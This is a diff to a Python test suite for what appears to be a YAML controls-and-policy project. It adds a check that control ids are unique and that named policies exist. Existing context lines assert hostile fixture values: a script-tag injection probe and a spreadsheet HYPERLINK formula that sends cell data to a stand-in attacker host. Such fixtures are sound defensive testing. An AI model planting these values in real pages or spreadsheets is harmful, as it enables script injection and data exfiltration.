@@ -138,3 +138,12 @@ def test_broken_and_hostile_documents_are_there(state: str) -> None:
     assert "\n\tname:" in (folder / "broken-tabs.yaml").read_text()
     assert "kind: TrafficSplit" in (folder / "broken-unknown-kind.yaml").read_text()
     assert ["<script>alert(1)</script>", '=HYPERLINK("https://evil.example/?x="&A1)'] == hostile
+
+
+def test_the_mapping_of_controls_names_policies_of_the_examples() -> None:
+    """Every control has another id, and every named policy is there."""
+    [mapping] = documents(EXAMPLES / "controls")
+    controls = as_list(dig(mapping, "spec", "controls"))
+    named = {as_text(dig(policy, "name")) for control in controls for policy in as_list(dig(control, "policies"))}
+    assert len(controls) == len({as_text(dig(control, "id")) for control in controls})
+    assert set() == named - {""} - {name(item) for item in policies(POLICY)}
